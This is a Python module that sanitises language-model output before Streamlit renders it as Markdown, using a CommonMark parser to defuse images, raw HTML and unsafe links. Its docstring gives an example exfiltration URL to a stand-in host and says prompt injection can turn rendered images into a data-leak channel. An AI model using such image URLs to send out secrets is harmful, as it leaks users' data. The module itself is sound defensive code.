"""Model output made safe to render as Markdown, judged by a CommonMark parser as the renderer sees it.

Why a parser: Streamlit renders Markdown with a CommonMark parser (plus GitHub's tables,
strikethrough and footnotes), and a regex cannot tell what CommonMark will call an image: an escaped
backtick before it, a "fence" whose info string holds a backtick (not a fence), or a code span that
would have to cross a heading (code spans end with their block) each hid a live image from the
regex, and the browser fetched `http://evil.example/a.png?d=SECRET` (an exfiltration channel once a
prompt injection controls the output). markdown-it-py follows the same spec, so here it finds every
construct the renderer will build, and only those are rewritten in the source text:

- an image becomes a link labelled "Image: <alt>" to the same address, never fetched (inside a
  link's text, where a link can't go, just its label);
- raw HTML (inline or a block) becomes text: every ASCII punctuation character in it is
  backslash-escaped, which CommonMark defines as "this character, literally";
- a link or autolink whose target is not http(s), mailto or relative goes nowhere (`UNSAFE`);
- `$` outside code is escaped, so "$5 and $10" stays text instead of becoming maths.

Everything else, code blocks and code spans included, is left byte for byte as it was. The result is
parsed once more and checked; if anything unsafe were still there (a case this module gets wrong),
the whole text is shown as a code block instead: plain, and never fetched or run.
"""

from __future__ import annotations

import bisect
import html
import logging
import re
from dataclasses import dataclass
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin

log = logging.getLogger(__name__)

UNSAFE = "#unsafe-link-removed"
_SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.I)
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f\u200b-\u200d\ufeff]+")
_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
_BACKTICKS = re.compile(r"`+")
_RECORDED = {
    "image": "image",
    "link": "link_open",
    "autolink": "link_open",
    "html_inline": "html_inline",
    "backticks": "code_inline",
}


def safe_url(url: str) -> bool:
    """Whether a link target is harmless: web and mail links, or no scheme at all (same page).

    Checked the way a browser will read it: Markdown escapes and HTML entities decoded, and the
    whitespace and control characters browsers ignore inside a scheme removed.
    """
    u = _INVISIBLE.sub("", html.unescape(_MD_ESCAPE.sub(r"\1", url.strip().strip("<>"))))
    m = _SCHEME.match(u)
    return m is None or m.group(1).lower() in _SAFE_SCHEMES


def escape(text: str) -> str:
    """Text that Markdown shows as written: every ASCII punctuation character backslash-escaped."""
    return _PUNCTUATION.sub(r"\\\1", text)


@dataclass
class _Span:
    """Where an inline rule matched in the text of its `owner` (a block-level inline token)."""

    kind: str
    owner: Token  # the block-level inline token whose text this is
    start: int
    end: int
    token: Token
    in_link: bool
    label_end: int = -1  # links: the position of the `]` closing the link text


def _recording(kind: str, rule: Any) -> Any:
    def record(state: Any, silent: bool) -> bool:
        start, count = state.pos, len(state.tokens)
        if not rule(state, silent):
            return False
        owner = state.env.get("rs_owner")
        # Only the inline's own text: an image's description is parsed from a copy (and replaced whole).
        if not silent and owner is not None and state.src is owner.content:
            made = next((t for t in state.tokens[count:] if t.type == _RECORDED[kind]), None)
            if made is not None:  # an unmatched backtick run is text, not a code span
                span = _Span(kind, owner, start, state.pos, made, state.linkLevel > 0)
                if kind == "link":
                    span.label_end = state.md.helpers.parseLinkLabel(state, start, True)
                state.env.setdefault("rs_spans", []).append(span)
        return True

    return record


def _inline_core(state: Any) -> None:
    """markdown-it's core `inline` rule, telling the inline rules which block-level token they parse."""
    for token in state.tokens:
        if token.type == "inline":
            if token.children is None:
                token.children = []
            state.env["rs_owner"] = token
            state.md.inline.parse(token.content, state.md, state.env, token.children)
    state.env.pop("rs_owner", None)


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.use(footnote_plugin, inline=False)  # GitHub footnotes, as Streamlit's renderer has them
    md.validateLink = lambda url: True  # type: ignore[method-assign]  # see every link; `safe_url` judges them
    md.core.ruler.at("inline", _inline_core)
    for kind in _RECORDED:
        rule = md.inline.ruler.__rules__[md.inline.ruler.__find__(kind)].fn
        md.inline.ruler.at(kind, _recording(kind, rule))
    return md


_MD = _parser()
_MD.parse("*a* [b](c) ![d](e) <f> `g`\n\n| h |\n|---|\n\n[^1]: i", {})  # rule chains built before threads share it


def _walk(tokens: list[Token]):
    for t in tokens:
        yield t
        if t.children:
            yield from _walk(t.children)


def _safe_tokens(tokens: list[Token]) -> bool:
    for t in _walk(tokens):
        if t.type in ("image", "html_inline", "html_block"):
            return False
        if t.type == "link_open" and not safe_url(str(t.attrs.get("href", ""))):
            return False
    return True


def is_safe(markdown: str) -> bool:
    """Whether the renderer would build no image, no raw HTML and no link to an unsafe target."""
    return _safe_tokens(_MD.parse(markdown, {}))


def _as_code(text: str) -> str:
    fence = "`" * max(3, 1 + max((len(r) for r in _BACKTICKS.findall(text)), default=0))
    return f"{fence}text\n{text}\n{fence}"


# Edits are (start, end, replacement) in the coordinates of one inline's source; a replacement holds
# no line break, so it never needs the block prefixes (`> `, list indentation) of the lines it spans.
Edit = tuple[int, int, str]


def _escape_lines(src: str, start: int, end: int) -> list[Edit]:
    """Escape edits for src[start:end], one per line, leaving each line's leading whitespace (where
    block prefixes and indentation live) as it is."""
    edits, pos = [], start
    for line in src[start:end].split("\n"):
        lead = len(line) - len(line.lstrip(" \t"))
        if lead < len(line):
            edits.append((pos + lead, pos + len(line), escape(line[lead:])))
        pos += len(line) + 1
    return edits


def _plain_text(tokens: list[Token]) -> str:
    """An image description as the renderer's alt text: the words, without their markup."""
    words = {"text": None, "text_special": None, "code_inline": None, "softbreak": " ", "hardbreak": " "}
    return "".join(t.content if words[t.type] is None else str(words[t.type]) for t in _walk(tokens) if t.type in words)


def _inline_edits(src: str, spans: list[_Span]) -> list[Edit]:
    edits: list[Edit] = []
    kept: list[tuple[int, int]] = []  # code spans and safe autolinks: `$` inside stays as it is
    for s in spans:
        if s.kind == "image":
            alt = _plain_text(s.token.children or [])
            label = escape("Image: " + (" ".join(alt.split()) or "no description"))
            url = str(s.token.attrs.get("src", ""))
            edits.append((s.start, s.end, label if s.in_link else f"[{label}](<{url if safe_url(url) else UNSAFE}>)"))
        elif s.kind == "link" and not safe_url(str(s.token.attrs.get("href", ""))):
            edits.append((s.label_end + 1, s.end, f"({UNSAFE})"))
        elif s.kind == "html_inline" or (s.kind == "autolink" and not safe_url(str(s.token.attrs.get("href", "")))):
            edits += _escape_lines(src, s.start, s.end)
        elif s.kind in ("autolink", "backticks"):
            kept.append((s.start, s.end))
    # A `$` is inside some span when the furthest end among the spans starting at or before it lies
    # beyond it: one sort and a binary search per `$`, so a text full of both stays linear-ish.
    covered = sorted(kept + [(a, b) for a, b, _ in edits])
    starts, reach, furthest = [a for a, _ in covered], [], 0
    for _, b in covered:
        furthest = max(furthest, b)
        reach.append(furthest)
    for m in re.finditer(r"(\\*)\$", src):
        at = m.end() - 1
        i = bisect.bisect_right(starts, at) - 1
        if len(m.group(1)) % 2 == 0 and (i < 0 or reach[i] <= at):
            edits.append((at, at, "\\"))
    return edits


def _line_starts(lines: list[str]) -> list[int]:
    starts, pos = [], 0
    for line in lines:
        starts.append(pos)
        pos += len(line) + 1
    return starts


class _Unmapped(Exception):
    """An inline's text could not be found in its source lines (never expected; handled safely)."""


def _to_source(tok: Token, content: str, lines: list[str], starts: list[int], cursor: dict[int, int], anchored: bool):
    """Map offsets in `content` (an inline's or HTML block's text, block prefixes removed) to source offsets.

    Line i of the content is source line map[0] + i after its block prefix (`> `, list indentation),
    less whitespace stripped at either end. Paragraph and HTML block lines run to the end of their
    source line (`anchored`: found from the right); heading text and table cells are found left to
    right, after the heading's #s and after the row's earlier cells. A table cell's `|` was `\\|` in
    the source (GitHub's tables unescape it before the inline parse): those pipes are counted back in.
    """
    assert tok.map is not None
    line_at: list[int] = []  # per content line: its offset in content,
    rows: list[tuple[int, int, list[int]]] = []  # and its source offset, lead, and content pipes unescaped
    offset = 0
    for i, c in enumerate(content.split("\n")):
        n = tok.map[0] + i
        if n >= len(lines):
            raise _Unmapped
        s, core = lines[n], c.lstrip(" \t")
        lead, trimmed, pipes = len(c) - len(core), core.rstrip(" \t"), []
        k = len(s.rstrip(" \t")) - len(trimmed)
        if not (anchored and k >= cursor.get(n, 0) and s[k:].rstrip(" \t") == trimmed and s[k : k + len(core)] == core):
            k = s.find(core, cursor.get(n, 0)) if core else len(s)
            if k < 0 and not anchored and "|" in core:
                k = s.find(core.replace("|", "\\|"), cursor.get(n, 0))
                pipes = [j for j, ch in enumerate(core) if ch == "|"]
        if k < 0:
            raise _Unmapped
        cursor[n] = k + len(core) + len(pipes)
        line_at.append(offset)
        rows.append((starts[n] + k, lead, pipes))
        offset += len(c) + 1

    def source(at: int) -> int:
        i = bisect.bisect_right(line_at, at) - 1
        src_at, lead, pipes = rows[i]
        rel = at - line_at[i] - lead
        if rel < 0:
            raise _Unmapped
        return src_at + rel + bisect.bisect_left(pipes, rel)

    return source


def _block_edits(tokens: list[Token], env: dict, lines: list[str]) -> list[Edit]:
    starts, edits = _line_starts(lines), []
    cursor: dict[int, int] = {}
    spans: dict[int, list[_Span]] = {}
    for span in env.get("rs_spans", []):
        spans.setdefault(id(span.owner), []).append(span)
    for i, tok in enumerate(tokens):
        if tok.map is None:
            continue
        if tok.type == "inline":
            found = _inline_edits(tok.content, spans.get(id(tok), []))
            if not found:
                continue
            opener = tokens[i - 1]
            atx = opener.type == "heading_open" and opener.markup.startswith("#")
            if atx:  # its text starts after the line's first run of #s (block prefixes have none)
                n = tok.map[0]
                cursor[n] = max(cursor.get(n, 0), len(lines[n]) - len(lines[n].split("#", 1)[1].lstrip("#")))
            anchored = not atx and opener.type not in ("th_open", "td_open")
            source = _to_source(tok, tok.content, lines, starts, cursor, anchored)
            edits += [(source(a), source(b), r) for a, b, r in found]
        elif tok.type == "html_block":
            body = tok.content.rstrip("\n")
            source = _to_source(tok, body, lines, starts, cursor, anchored=True)
            edits += [(source(a), source(b), r) for a, b, r in _escape_lines(body, 0, len(body))]
            # Escaped, the block is a paragraph, which would run on into a following line that was a
            # block of its own (an indented code block, say): a blank line keeps them apart, carrying
            # the last line's container prefix ("> ") so a quote or list item goes on.
            last = tok.map[1] - 1
            if tok.map[1] < len(lines) and lines[tok.map[1]].strip() and last < len(lines):
                end = starts[last] + len(lines[last])
                body_last = body.rsplit("\n", 1)[-1]
                prefix = lines[last][: len(lines[last]) - len(body_last.lstrip(" \t"))] if body_last.strip() else ""
                edits.append((end, end, "\n" + prefix.rstrip()))
    return edits


def sanitize(markdown: str) -> str:
    """Markdown that is safe to render: no raw HTML, no images fetched, only web and mail links.

    Code blocks and code spans are left alone: the Markdown renderer shows their content verbatim.
    """
    text = markdown.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")  # as the parser reads it
    try:
        return _rewrite(text)
    except (_Unmapped, RecursionError):  # text this module can't place exactly: shown, never rendered
        return _as_code(text)
    except Exception:  # a parser bug on some input must not take the page down, nor let the text through
        log.exception("the sanitiser failed; the text is shown as a code block")
        return _as_code(text)


def _rewrite(text: str) -> str:
    env: dict = {}
    tokens = _MD.parse(text, env)
    edits = _block_edits(tokens, env, text.split("\n"))
    if not edits:  # the common case: nothing to rewrite, and the parse in hand is the result's own
        return text if _safe_tokens(tokens) else _as_code(text)
    out, end = [], len(text)
    for a, b, r in sorted(edits, reverse=True):
        if b > end:  # overlapping edits: never expected; the safe way out
            return _as_code(text)
        out += [text[b:end], r]
        end = a
    out.append(text[:end])
    result = "".join(reversed(out))
    return result if is_safe(result) else _as_code(text)
